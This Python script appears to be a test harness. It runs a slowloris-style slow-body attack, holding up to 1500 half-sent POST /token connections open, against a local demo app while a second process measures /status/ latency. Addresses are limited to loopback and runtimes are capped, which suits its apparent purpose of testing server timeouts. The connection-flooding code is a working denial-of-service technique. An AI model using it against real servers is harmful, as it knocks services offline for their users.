#!/usr/bin/env python3
"""Slow-body clients against demo-app, and a normal client timing /status/ meanwhile.

Two roles, run as separate processes by scripts/slowloris.sh (so that neither slows the
other through Python's global lock):

  slowloris.py attack  --port P [--from 127.0.0.2] [--connections 1500] [--seconds 20]
                       [--reconnect]
      Opens CONNECTIONS connections from FROM, each sending the issue's slow body (a
      /token head announcing 100 bytes, then 10 of them, then nothing), and keeps them
      open. With --reconnect, every connection the server closes is opened again at once,
      so that CONNECTIONS are always being attempted. Prints what happened to them.

  slowloris.py measure --port P [--from 127.0.0.1] [--seconds 20] [--interval-ms 10]
      Gets a token, then for SECONDS sends GET /status/ with it, each on a new connection,
      one every INTERVAL; prints latency percentiles and errors. Any failure (refused,
      reset, timeout after 5 s, a status other than 200) counts as an error.

Only loopback addresses are used; every loop is bounded in time.
"""

import argparse
import json
import resource
import selectors
import socket
import statistics
import sys
import time

SLOW_BODY = (
    b"POST /token HTTP/1.1\r\nHost: x\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 100\r\n\r\nusername=j"
)


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def loopback(addr):
    if not addr.startswith("127."):
        sys.exit(f"{addr}: only loopback addresses (127.0.0.0/8) are used")
    return addr


def open_slow(source, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.bind((source, 0))
    try:
        s.connect((loopback("127.0.0.1"), port))
    except BlockingIOError:
        pass
    return s


def attack(args):
    limit = raise_nofile()
    if limit < args.connections + 64:
        sys.exit(f"the attacker needs {args.connections + 64} open files, has {limit}")
    sel = selectors.DefaultSelector()
    opened = closed_by_server = 0
    first_close = None
    lifetimes = []
    start = time.monotonic()
    deadline = start + args.seconds

    def launch():
        nonlocal opened
        s = open_slow(args.source, args.port)
        opened += 1
        sel.register(s, selectors.EVENT_WRITE, {"sent": False, "at": time.monotonic()})

    for _ in range(args.connections):
        launch()
    ramp = time.monotonic() - start
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.2):
            s, state = key.fileobj, key.data
            gone = False
            if not state["sent"]:
                try:
                    s.sendall(SLOW_BODY)
                    state["sent"] = True
                    sel.modify(s, selectors.EVENT_READ, state)
                except OSError:
                    gone = True
            else:
                try:
                    # An answer (the 408) is followed by the close.
                    gone = not s.recv(65536)
                except OSError:
                    gone = True
            if gone:
                sel.unregister(s)
                s.close()
                closed_by_server += 1
                lifetimes.append(time.monotonic() - state["at"])
                if first_close is None:
                    first_close = time.monotonic() - start
                if args.reconnect and time.monotonic() < deadline:
                    launch()
    still_open = len(sel.get_map())
    held = sorted(lifetimes)
    report = {
        "role": "attack",
        "from": args.source,
        "connections": args.connections,
        "reconnect": args.reconnect,
        "seconds": args.seconds,
        "ramp_s": round(ramp, 3),
        "opened": opened,
        "closed_by_server": closed_by_server,
        "attempts_open_at_end": still_open,
        "longest_lived_s": round(held[-1], 3) if held else None,
    }
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    print(json.dumps(report))


def request(source, port, raw, timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.bind((source, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(raw)
        got = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
        return got
    finally:
        s.close()


def measure(args):
    raise_nofile()
    form = b"username=johndoe&password=secret&scope=me"
    answer = request(
        args.source,
        args.port,
        b"POST /token HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n"
        + f"Content-Length: {len(form)}\r\n\r\n".encode()
        + form,
    )
    body = answer.split(b"\r\n\r\n", 1)[1]
    token = json.loads(body)["access_token"]
    raw = (
        b"GET /status/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        + f"Authorization: Bearer {token}\r\n\r\n".encode()
    )
    latencies, errors = [], {}
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        t0 = time.monotonic()
        try:
            got = request(args.source, args.port, raw)
            if not got.startswith(b"HTTP/1.1 200"):
                kind = got[:12].decode(errors="replace") or "closed without an answer"
                errors[kind] = errors.get(kind, 0) + 1
            else:
                latencies.append((time.monotonic() - t0) * 1e3)
        except OSError as e:
            errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
        pause = args.interval_ms / 1e3 - (time.monotonic() - t0)
        if pause > 0:
            time.sleep(pause)
    lat = sorted(latencies)

    def pct(p):
        return round(lat[min(len(lat) - 1, int(len(lat) * p))], 2) if lat else None

    print(
        json.dumps(
            {
                "role": "measure",
                "from": args.source,
                "requests": len(lat) + sum(errors.values()),
                "ok": len(lat),
                "errors": errors,
                "p50_ms": pct(0.50),
                "p90_ms": pct(0.90),
                "p99_ms": pct(0.99),
                "max_ms": round(lat[-1], 2) if lat else None,
                "mean_ms": round(statistics.fmean(lat), 2) if lat else None,
            }
        )
    )


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="role", required=True)
    a = sub.add_parser("attack")
    a.add_argument("--port", type=int, required=True)
    a.add_argument("--from", dest="source", default="127.0.0.2", type=loopback)
    a.add_argument("--connections", type=int, default=1500)
    a.add_argument("--seconds", type=float, default=20)
    a.add_argument("--reconnect", action="store_true")
    m = sub.add_parser("measure")
    m.add_argument("--port", type=int, required=True)
    m.add_argument("--from", dest="source", default="127.0.0.1", type=loopback)
    m.add_argument("--seconds", type=float, default=20)
    m.add_argument("--interval-ms", type=float, default=10)
    args = parser.parse_args()
    if args.seconds > 600:
        sys.exit("at most 600 seconds")
    (attack if args.role == "attack" else measure)(args)


if __name__ == "__main__":
    main()
